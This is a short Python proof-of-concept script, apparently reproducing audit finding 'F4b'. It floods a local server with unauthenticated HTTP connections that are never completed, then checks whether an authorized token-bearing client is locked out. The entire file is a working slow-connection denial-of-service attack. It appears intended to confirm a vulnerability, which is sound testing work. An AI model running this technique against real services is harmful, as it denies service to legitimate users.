#!/usr/bin/env python3
"""F4b: unauthenticated idle connections (no timeout, one thread each) lock
authorized clients out. Usage: 04b-serve-idle-conns.py PORT TOKENFILE N"""
import socket, sys, resource, os, time
port, tok, n = int(sys.argv[1]), open(sys.argv[2]).read().strip(), int(sys.argv[3])
resource.setrlimit(resource.RLIMIT_NOFILE, (n + 100, n + 100))
held = []
for i in range(n):
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(b"GET /v1/sessions HTTP/1.1\r\n")  # never finished
    held.append(s)
time.sleep(2)
s = socket.create_connection(("127.0.0.1", port)); s.settimeout(5)
s.sendall(b"POST /v1/sessions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Length: 2\r\n\r\n{}" % tok.encode())
try:
    print("authorized client got:", s.recv(200).split(b"\r\n")[0] or b"(closed)")
except Exception as e:
    print("authorized client got nothing:", e)
